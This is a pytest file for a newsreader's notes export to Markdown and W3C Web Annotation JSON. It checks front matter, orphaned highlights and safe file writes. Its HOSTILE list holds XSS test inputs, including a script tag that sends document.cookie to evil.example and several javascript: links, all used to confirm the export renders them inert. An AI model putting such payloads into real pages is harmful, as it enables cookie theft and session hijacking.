"""Export: Markdown and W3C Web Annotation JSON, both parsed back."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from reader.article import Article, ArticleBuilder
from reader.notes.export import ORPHAN_MARK, collect, to_annotations, to_json, to_markdown
from reader.notes.store import NoteStore

PARAGRAPHS = [
    'Aleppo: "a city in ruins"',
    "The army said it had taken back 70 percent of the districts.",
    "> Not a quote marker: residents said the night was quiet.",
]


def make_article(paragraphs: list[str] = PARAGRAPHS, **meta: str | None) -> Article:
    builder = ArticleBuilder("aleppo.txt")
    builder.add("title", paragraphs[0])
    for paragraph in paragraphs[1:]:
        builder.add("paragraph", paragraph)
    meta.setdefault("title", paragraphs[0])
    return builder.build(**meta)


@pytest.fixture
def store(tmp_path: Path):
    with NoteStore.open(tmp_path / "notes.sqlite3") as opened:
        yield opened


def add(store: NoteStore, article: Article, phrase: str, note: str = "", **kw: str):  # type: ignore[no-untyped-def]
    saved = store.remember_article(article)
    start = article.text.index(phrase)
    return store.add_highlight(saved.id, article.text, start, start + len(phrase), note=note, **kw)  # type: ignore[arg-type]


def parse_markdown(document: str) -> tuple[dict[str, str], list[tuple[str, list[str]]]]:
    """Front matter, and each block quote with the lines that follow it (blank lines dropped)."""
    lines = document.split("\n")
    assert lines[0] == "---"
    end = lines.index("---", 1)
    front = {}
    for line in lines[1:end]:
        key, value = line.split(": ", 1)
        front[key] = json.loads(value)
    entries: list[tuple[str, list[str]]] = []
    quote: list[str] | None = None
    for line in lines[end + 1 :]:
        if line.startswith(">"):
            if quote is None:
                quote = []
                entries.append(("", []))
            quote.append(line[2:] if line.startswith("> ") else line[1:])
            entries[-1] = ("\n".join(quote), entries[-1][1])
        else:
            quote = None
            if entries and line.strip():
                entries[-1][1].append(line)
    return front, entries


def test_markdown_has_front_matter_and_each_highlight_as_a_quote_with_its_note(
    store: NoteStore,
) -> None:
    article = make_article(url="https://example.org/aleppo", published="2016-12-07")
    add(store, article, "70 percent", note="Check:\n> the UN figure\nsecond line")
    add(store, article, 'Aleppo: "a city in ruins"\n\nThe army')
    saved = store.articles()[0]
    document = to_markdown([collect(store, saved)], exported="2026-11-24T20:00:00")
    front, entries = parse_markdown(document)
    assert front == {
        "title": 'Aleppo: "a city in ruins"',
        "source": "https://example.org/aleppo",
        "date": "2016-12-07",
        "exported": "2026-11-24T20:00:00",
    }
    assert entries == [
        ('Aleppo: "a city in ruins"\n\nThe army', []),
        ("70 percent", ["Check:", "\\> the UN figure", "second line"]),
    ]


def test_markdown_marks_orphans_and_keeps_their_text_and_note(store: NoteStore) -> None:
    old = make_article(url="https://example.org/a")
    add(store, old, "residents said the night was quiet", note="source?")
    new = make_article([PARAGRAPHS[0], "Completely rewritten story."], url="https://example.org/a")
    saved = store.remember_article(new)
    document = to_markdown([collect(store, saved)])
    _front, entries = parse_markdown(document)
    assert entries == [("residents said the night was quiet", [ORPHAN_MARK, "source?"])]


def test_markdown_of_several_articles_has_a_section_each(store: NoteStore) -> None:
    one = make_article()
    two = make_article(["Second story", "Budget talks stall again."])
    add(store, one, "70 percent", note="n1")
    add(store, two, "Budget talks", note="n2")
    items = [collect(store, s) for s in store.articles()]
    document = to_markdown(items)
    front, entries = parse_markdown(document)
    assert front["title"] == "newsreader notes"
    assert "## Second story" in document and '## Aleppo: "a city in ruins"' in document
    assert sorted(e[0] for e in entries) == ["70 percent", "Budget talks"]


def test_json_is_a_w3c_annotation_collection_that_round_trips(store: NoteStore) -> None:
    article = make_article(url="https://example.org/aleppo")
    noted = add(store, article, "70 percent", note="Check the UN figure")
    plain = add(store, article, "the night was quiet")
    quote = add(store, article, "a city in ruins", kind="quote", label="a city in ruins")
    saved = store.articles()[0]
    data = json.loads(to_json([collect(store, saved)]))
    assert data["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection" and data["total"] == 3
    items = data["first"]["items"]
    by_exact = {item["target"]["selector"][0]["exact"]: item for item in items}
    for highlight in (noted, plain, quote):
        item = by_exact[highlight.anchor.exact]
        assert item["type"] == "Annotation"
        assert item["id"].replace("-", "").endswith(highlight.uid)
        assert item["target"]["source"] == "https://example.org/aleppo"
        quote_selector, position = item["target"]["selector"]
        assert quote_selector == {
            "type": "TextQuoteSelector",
            "exact": highlight.anchor.exact,
            "prefix": highlight.anchor.prefix,
            "suffix": highlight.anchor.suffix,
        }
        assert position["type"] == "TextPositionSelector"
        assert article.text[position["start"] : position["end"]] == highlight.anchor.exact
    assert by_exact["70 percent"]["body"] == {
        "type": "TextualBody",
        "value": "Check the UN figure",
        "format": "text/plain",
        "purpose": "commenting",
    }
    assert by_exact["70 percent"]["motivation"] == "commenting"
    assert "body" not in by_exact["the night was quiet"]
    assert by_exact["the night was quiet"]["motivation"] == "highlighting"
    assert by_exact["a city in ruins"]["newsreader:kind"] == "quote"


def test_json_orphans_have_only_their_quote_selector(store: NoteStore) -> None:
    old = make_article(url="https://example.org/a")
    add(store, old, "residents said the night was quiet", note="source?")
    saved = store.remember_article(
        make_article([PARAGRAPHS[0], "Rewritten."], url="https://example.org/a")
    )
    [item] = to_annotations([collect(store, saved)])["first"]["items"]
    assert [s["type"] for s in item["target"]["selector"]] == ["TextQuoteSelector"]
    assert item["newsreader:orphaned"] is True
    assert item["body"]["value"] == "source?"


def test_an_article_without_notes_exports_cleanly(store: NoteStore) -> None:
    saved = store.remember_article(make_article())
    item = collect(store, saved)
    front, entries = parse_markdown(to_markdown([item]))
    assert front["source"] == "aleppo.txt" and entries == []
    assert json.loads(to_json([item]))["total"] == 0


# -- Markdown export never passes HTML through (issue 10 item 13) -----------------------------

HOSTILE = [
    '<img src=x onerror="alert(1)">',
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "[click me](javascript:alert(1))",
    "![pixel](https://tracker.example/p.png?u=1)",
    "<https://tracker.example/autolink>",
    "&lt;script&gt; and \\[escaped\\] and <!-- comment -->",
    "[ref]: javascript:alert(2)",
]


def rendered(markdown: str) -> str:
    """The export as a notes app that renders HTML in Markdown would show it, with links
    not vetted (markdown-it itself refuses javascript: links; not every renderer does)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda _url: True  # type: ignore[method-assign]
    body = markdown.split("---\n", 2)[2]  # without the front matter
    return md.render(body)


def test_html_in_quoted_text_notes_and_titles_is_exported_inert(store: NoteStore) -> None:
    article = make_article([f"Title {HOSTILE[0]}", *HOSTILE])
    saved = store.remember_article(article)
    for i, phrase in enumerate(HOSTILE):
        add(store, article, phrase, note=HOSTILE[(i + 1) % len(HOSTILE)])
    add(store, article, "[click me]", kind="quote", label=HOSTILE[1])
    markdown = to_markdown([collect(store, store.article(saved.id))])
    html = rendered(markdown)
    for tag in ("<img", "<script", "<a ", "<!--"):
        assert tag not in html, f"{tag} rendered live:\n{html}"
    # The text itself is all still there, shown as text.
    assert "&lt;script&gt;fetch(" in html and "[click me](javascript:alert(1))" in html
    assert "![pixel](https://tracker.example/p.png?u=1)" in html


def test_a_source_that_is_not_a_web_address_is_not_made_a_link(store: NoteStore) -> None:
    article = make_article(url="javascript:alert(1)")
    first = make_article([*PARAGRAPHS, "Other."], url="https://e.org/a")
    add(store, article, "70 percent", note="n")
    add(store, first, "70 percent", note="m")
    html = rendered(to_markdown([collect(store, s) for s in store.articles()]))
    assert 'href="javascript:' not in html and 'href="https://e.org/a"' in html


# -- writing an export file: whole or not at all, with the umask (issue 10 item 7) -----------

WRITE_WITH_A_SIZE_LIMIT = r"""
import resource, signal, sys
from pathlib import Path
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file size limit stands in for a full disk
resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
from reader.ui.notes_commands import _write_new
try:
    _write_new(Path(sys.argv[1]), "notes", ".md", "x" * 200_000)
except OSError as error:
    print("FAILED", error.strerror)
else:
    print("WROTE")
"""


def test_an_export_from_the_palette_that_fails_leaves_no_file(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    result = subprocess.run(
        [sys.executable, "-c", WRITE_WITH_A_SIZE_LIMIT, str(tmp_path)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=60,
        check=False,
    )
    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
    assert list(tmp_path.iterdir()) == []


def test_write_new_file_never_overwrites_and_follows_the_umask(tmp_path: Path) -> None:
    import os

    from reader.notes.export import write_export_file

    target = tmp_path / "notes.md"
    target.write_text("the user's own file", encoding="utf-8")
    with pytest.raises(FileExistsError):
        write_export_file(target, "new", overwrite=False)
    assert target.read_text(encoding="utf-8") == "the user's own file"
    old = os.umask(0o027)
    try:
        write_export_file(tmp_path / "other.md", "new", overwrite=False)
    finally:
        os.umask(old)
    assert (tmp_path / "other.md").stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.md", "other.md"]
